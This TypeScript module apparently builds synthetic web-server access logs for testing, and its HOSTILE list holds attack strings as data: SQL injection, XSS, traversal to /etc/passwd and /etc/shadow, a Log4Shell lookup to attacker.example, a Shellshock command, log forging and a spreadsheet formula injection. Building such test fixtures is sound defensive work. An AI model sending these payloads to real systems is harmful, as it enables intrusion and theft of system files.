import { BROWSERS, PROBED_PATHS, REFERRERS } from './site-content.js';

/** `[text, parts]` as that many copies of each text, so that bits choose one. */
const weighted = (...texts: readonly (readonly [string, number])[]): string[] => texts.flatMap(([text, parts]) => Array<string>(parts).fill(text));

export const METHODS: readonly string[] = weighted(['GET', 14], ['POST', 1], ['HEAD', 1]);
export const PROTOCOLS: readonly string[] = weighted(['HTTP/1.1', 3], ['HTTP/2.0', 1]);

/** Of 256 equal parts 20 are 4xx (8 %) and 5 are 5xx (2 %). */
export const STATUSES: readonly number[] = weighted(
  ...([['200', 190], ['304', 27], ['301', 9], ['206', 5], ['404', 14], ['403', 4], ['401', 2], ['500', 2], ['502', 2], ['503', 1]] as const),
).map(Number);
/** What a server answers while it cannot do its work. */
export const BURST_STATUSES: readonly number[] = [500, 502, 503, 504];

const plainBrowsers = BROWSERS.map((agent) => agent.replaceAll('\\"', '"'));

/** 64: each host has one, an eighth of them are bots and programs. */
export const AGENTS: readonly string[] = Array.from({ length: 64 }, (_, n) => plainBrowsers[n % 8 === 0 ? 6 + ((n / 8) % 4) : n % 6]!);
/** 64. */
export const REFERRING: readonly string[] = Array.from({ length: 64 }, (_, n) => REFERRERS[(n * 5) % REFERRERS.length]!);
/** 32: most hosts are nobody's. */
export const USERS: readonly string[] = weighted(['-', 30], ['ana', 1], ['jane', 1]);
export const VIRTUAL_HOSTS: readonly string[] = weighted(['shop.example', 3], ['blog.example', 1]);
export const UPSTREAMS: readonly string[] = ['10.0.0.1:8080', '10.0.0.2:8080', '10.0.0.3:8080', '10.0.0.4:8080'];
export const LEVELS: readonly string[] = weighted(['info', 12], ['warn', 3], ['error', 1]);
export const MESSAGES: readonly string[] = ['connection closed by the client', 'upstream answered late', 'file does not exist', 'a request body was buffered'];

export const SECTION_NAMES: readonly string[] = (
  'products api static images search cart checkout account blog help feed news food drinks kitchen garden tools books ' +
  'music games travel offers gifts brands press jobs about legal media download status admin health metrics events ' +
  'forum wiki video photo shop'
).split(' ');
const WORDS =
  'teapot whisk saucepan cheese-board bread-knife salad-bowl pizza-stone egg-timer spice-rack soup-ladle sieve apron ' +
  'oven-glove rolling-pin cake-stand milk-jug';
export const SLUGS: readonly string[] = WORDS.split(' ').flatMap((word) => [`${word}-`, `reviews/${word}-`, `2024/11/${word}-`]);
export const QUERY_STARTS: readonly string[] = ['page=', 'utm_source=newsletter&id=', 'q=blue+cup&page=', 'session='];

/** A request of somebody who means ill, or of something that is broken. */
export interface HostileRequest {
  /** the target, without blanks and quotes */
  target: string;
  /** all that stands in place of a request, where a line has it as one text */
  request?: string;
  agent?: string;
}

/** All are records wherever texts can be escaped; nothing in them does anything to who only reads them. */
export const HOSTILE: readonly HostileRequest[] = [
  ...PROBED_PATHS.map((target) => ({ target })),
  { target: '/products?id=1%27%20OR%20%271%27=%271' },
  { target: '/search?q=%3Cscript%3Ealert(1)%3C/script%3E', agent: '<script>alert(1)</script>' },
  { target: '/../../../../etc/passwd' },
  { target: '/static/..%2f..%2f..%2fetc%2fshadow' },
  { target: '/', agent: '${jndi:ldap://attacker.example/a}' },
  { target: '/', agent: '() { :; }; /bin/cat /etc/passwd' },
  { target: '/', agent: '\u001b[2J\u001b]0;owned\u0007' },
  { target: '/', agent: 'a "quoted" \\ agent\r\n127.0.0.1 - - "forged"' },
  { target: '/', agent: '=cmd|"/c calc"!A1' },
  { target: '/%ff%fe%00', agent: '\u202egnp.exe\u2066' },
  { target: `/${'a/'.repeat(700)}`, agent: 'x'.repeat(300) },
  { target: '//evil.example//products' },
  { target: '/', request: '\u0016\u0003\u0001\u0002\u0000\u0001\u0000' },
  { target: '/', request: '' },
  { target: '/', request: '-' },
  { target: '/', request: 'GET /' },
  { target: '/', request: 'OPTIONS * HTTP/1.0' },
  { target: '/', request: 'CONNECT mail.example:25 HTTP/1.1' },
  { target: '/', request: 'GET /search?q=tea pot HTTP/1.1' },
  { target: '/', request: 'PRI * HTTP/2.0' },
  { target: '/', request: '\u0003\u0000\u0000/*\u00e0\u0000Cookie: mstshash=Administr' },
];
